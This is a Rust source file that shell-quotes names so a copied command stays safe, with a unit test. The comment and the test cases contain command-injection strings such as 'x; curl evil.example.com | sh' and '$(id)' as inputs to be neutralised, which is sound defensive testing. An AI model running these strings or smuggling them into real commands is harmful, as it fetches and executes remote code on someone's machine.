//! Words of a command that somebody copies into a shell.

/// A text as one word: what is plain stays as it is, everything else is quoted. A name may be whatever somebody called a
/// thing: unquoted, `x; curl evil.example.com | sh` would be run by whoever copies the command.
pub(crate) fn word(text: &str) -> String {
    let is_plain = |it: char| it.is_ascii_alphanumeric() || "_-./:@,+".contains(it);
    if !text.is_empty() && text.chars().all(is_plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_hostile_name_is_one_word_and_a_plain_one_stays_as_it_is() {
        for (text, expected) in [
            ("office-hours_2.5", "office-hours_2.5"),
            ("skp/guard", "skp/guard"),
            ("", "''"),
            ("two words", "'two words'"),
            ("x; curl evil.example.com | sh", "'x; curl evil.example.com | sh'"),
            ("$(id)`id`", "'$(id)`id`'"),
            ("it's'; id #", r"'it'\''s'\''; id #'"),
            ("~root", "'~root'"),
        ] {
            assert_eq!(word(text), expected);
        }
    }
}
